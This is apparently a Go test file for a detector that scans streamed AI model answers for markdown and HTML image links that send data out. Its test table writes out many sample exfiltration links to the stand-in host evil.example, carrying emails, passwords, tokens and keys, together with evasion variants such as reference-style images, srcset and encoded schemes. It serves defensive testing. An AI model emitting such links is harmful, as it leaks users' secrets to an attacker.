package inject

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// imageCases are model answers and the rule of the first image link in
// them that carries data ("" for none).
var imageCases = []struct {
	name, text, rule string
}{
	{"inline image with a token", "Here ![x](https://evil.example/p.png?d=sk-live-4f9a8b7c6d5e4f3a2b1c) done", "exfiltration.markdown_image"},
	{"angle destination with words", "![x](<https://evil.example/p.png?d=John Smith 555>)", "exfiltration.markdown_image"},
	{"title after the url", `![x](https://evil.example/a.png?q=alice%40corp.example "title")`, "exfiltration.markdown_image"},
	{"unfilled placeholder", "![x](https://evil.example/p.png?d={secret})", "exfiltration.markdown_image"},
	{"upper-case scheme", "![x](HTTPS://evil.example/p.png?d=my+password+is+hunter2)", "exfiltration.markdown_image"},
	{"protocol-relative", "![x](//evil.example/p.png#alice@corp.example)", "exfiltration.markdown_image"},
	{"character reference in the scheme", "![x](https&#58;//evil.example/p.png?d=alice@corp.example)", "exfiltration.markdown_image"},
	{"line break before the url", "![x](\nhttps://evil.example/p.png?d=alice@corp.example)", "exfiltration.markdown_image"},
	{"reference defined after", "![logo][l]\n\n[l]: https://evil.example/l.png?u=alice@corp.example\n", "exfiltration.markdown_image"},
	{"reference defined before", "[L]: <https://evil.example/l.png?u=alice@corp.example>\n\n![logo][l]", "exfiltration.markdown_image"},
	{"shortcut reference", "![logo]\n\n[logo]: https://evil.example/l.png?k=QUtJQUlPU0ZPRE5ON0VYQU1QTEU=", "exfiltration.markdown_image"},
	{"collapsed reference", "![Logo][]\n\n[logo]:\n  https://evil.example/l.png?k=QUtJQUlPU0ZPRE5ON0VYQU1QTEU=", "exfiltration.markdown_image"},
	{"html img", `<p><img alt="x" src="https://evil.example/i.png?c=QUtJQUlPU0ZPRE5ON0VYQU1QTEU="></p>`, "exfiltration.html_image"},
	{"html img upper case, unquoted", `<IMG SRC=https://evil.example/i.png?c=alice@corp.example>`, "exfiltration.html_image"},
	{"html img srcset", `<img srcset="https://ok.example/a.png 1x, https://evil.example/b.png?t=alice@corp.example 2x">`, "exfiltration.html_image"},
	{"in a code block (judged)", "```md\n![x](https://evil.example/p.png?d=alice@corp.example)\n```", "exfiltration.markdown_image"},
	{"escape read two ways", `![a\](https://evil.example/?d=alice@corp.example)](https://ok.example/a.png)`, "exfiltration.markdown_image"},
	{"nested in a link", "[![x](https://evil.example/p.png?d=alice@corp.example)](https://ok.example)", "exfiltration.markdown_image"},

	{"image without data", "![diagram](https://example.com/diagram.png)", ""},
	{"badge options", "![build](https://img.shields.io/badge/build-passing-green?style=flat-square&logo=github)", ""},
	{"size options", "![chart](https://example.com/c.png?w=1200&h=630#top)", ""},
	{"relative image", "![x](/img.png?d=alice@corp.example)", ""},
	{"bang before a bracket in prose", "Great job![citation needed] and more", ""},
	{"bang bracket in code", "if (![a, b].includes(x)) { return }", ""},
	{"plain link with data", "[docs](https://evil.example/?d=alice@corp.example)", ""},
	{"definition only a link uses", "see [l]\n\n[l]: https://evil.example/?d=alice@corp.example\n", ""},
	{"blank line ends the alt", "![not an image\n\n](https://evil.example/?d=alice@corp.example)", ""},
	{"img-like tag", `<imgx src="https://evil.example/?d=alice@corp.example">`, ""},
	{"no text", "", ""},
}

func firstRule(fs []ImageFinding) string {
	if len(fs) == 0 {
		return ""
	}
	return fs[0].Rule
}

func TestImageWatchWhole(t *testing.T) {
	for _, tc := range imageCases {
		t.Run(tc.name, func(t *testing.T) {
			var w ImageWatch
			fs, err := w.Whole(tc.text)
			require.NoError(t, err)
			assert.Equal(t, tc.rule, firstRule(fs))
			if len(fs) > 0 {
				f := fs[0]
				assert.Equal(t, "exfiltration", f.Family)
				assert.Equal(t, tc.text[f.Start:f.End], f.Link)
				assert.NotZero(t, f.Score)
			}
		})
	}
}

// TestImageWatchSplit feeds each answer cut at every byte offset, and
// byte by byte: the decision is the one on the whole text.
func TestImageWatchSplit(t *testing.T) {
	for _, tc := range imageCases {
		t.Run(tc.name, func(t *testing.T) {
			for k := 0; k <= len(tc.text); k++ {
				var w ImageWatch
				_, a, err := w.Feed(3, tc.text[:k])
				require.NoError(t, err)
				_, b, err := w.Feed(3, tc.text[k:])
				require.NoError(t, err)
				c, err := w.End(3)
				require.NoError(t, err)
				got := firstRule(append(append(a, b...), c...))
				require.Equal(t, tc.rule, got, "cut at %d", k)
				assert.False(t, w.Open())
			}
			var w ImageWatch
			var all []ImageFinding
			for i := range len(tc.text) {
				_, fs, err := w.Feed(0, tc.text[i:i+1])
				require.NoError(t, err)
				all = append(all, fs...)
			}
			fs, err := w.End(0)
			require.NoError(t, err)
			assert.Equal(t, tc.rule, firstRule(append(all, fs...)))
		})
	}
}

func TestImageWatchHolds(t *testing.T) {
	var w ImageWatch
	open, _, _ := w.Feed(0, "Wow!")
	assert.False(t, open, "a lone ! opens nothing: it was sent")
	open, _, _ = w.Feed(0, "[chart](https://exa")
	assert.True(t, open, "! then [ in the next piece opens an image")
	open, fs, _ := w.Feed(0, "mple.com/c.png) and on")
	assert.False(t, open)
	assert.Empty(t, fs)

	open, _, _ = w.Feed(1, "a <im")
	assert.False(t, open)
	open, _, _ = w.Feed(1, "g src='x")
	assert.True(t, open)
	open, _, _ = w.Feed(1, "'> text")
	assert.False(t, open)

	open, _, _ = w.Feed(2, "[1]")
	assert.True(t, open, "a label could be a definition until what follows it is known")
	open, _, _ = w.Feed(2, " Smith et al.")
	assert.False(t, open)
	assert.False(t, w.Open())
}

func TestImageWatchBounds(t *testing.T) {
	w := ImageWatch{Limit: 64}
	open, _, err := w.Feed(0, "![alt "+strings.Repeat("word ", 10))
	require.NoError(t, err)
	assert.True(t, open)
	_, _, err = w.Feed(0, strings.Repeat("word ", 10))
	assert.ErrorIs(t, err, ErrImageLinkLimit)

	// A bracket that cannot be a label any more is released, not refused.
	var w2 ImageWatch
	open, _, err = w2.Feed(0, "["+strings.Repeat("1, ", 400))
	require.NoError(t, err)
	assert.False(t, open)

	var w3 ImageWatch
	var text strings.Builder
	for i := range maxImageLabels + 1 {
		text.WriteString("![a][l" + strings.Repeat("x", i%7) + string(rune('a'+i%26)) + string(rune('a'+i/26)) + "] ")
	}
	_, err = w3.Whole(text.String())
	assert.ErrorIs(t, err, ErrImageLinkLimit)
}

func TestFilledQuery(t *testing.T) {
	for u, want := range map[string]bool{
		"https://x.example/a.png":                            false,
		"https://x.example/a.png?style=flat-square":          false,
		"https://x.example/a.png?v=20240101&w=600":           false,
		"https://x.example/a.png?d=hello%20world":            true,
		"https://x.example/a.png?d=hello+world":              true,
		"https://x.example/a.png?e=a%40b.example":            true,
		"https://x.example/a.png?t=ghp_4f9a8b7c6d5e4f3a2b":   true,
		"https://x.example/a.png#" + strings.Repeat("a", 32): true,
	} {
		assert.Equal(t, want, filledQuery(u), u)
	}
}
